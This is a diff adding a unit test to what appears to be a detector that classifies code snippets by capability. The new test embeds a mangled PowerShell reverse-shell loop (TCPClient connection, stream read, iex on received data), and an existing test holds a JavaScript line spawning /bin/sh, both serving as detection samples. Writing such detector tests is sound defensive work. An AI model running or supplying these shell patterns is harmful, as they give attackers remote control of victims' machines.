@@ -22,3 +22,13 @@ def test_a_call_without_its_last_bracket_counts(language, text):
 
 def test_broken_text_is_said_to_be_read_in_part():
     assert analysis("require('child_process').spawn('/bin/sh'", "javascript").parse == "partial"
+
+
+def test_variables_that_a_shell_has_expanded_hide_no_connection():
+    """``powershell -c "$c = ..."`` in a shell's double quotes: the names are gone, and what is done with them is not."""
+    hole = "\U000f0000"
+    text = (
+        f"{hole} = New-Object System.Net.Sockets.TCPClient('h',1);{hole} = {hole}.GetStream();"
+        f"while(({hole} = {hole}.Read({hole}, 0, 9)) -ne 0){{iex {hole}}}"
+    )
+    assert {"network.connect", "network.download-and-execute"} <= capabilities(text, "powershell")
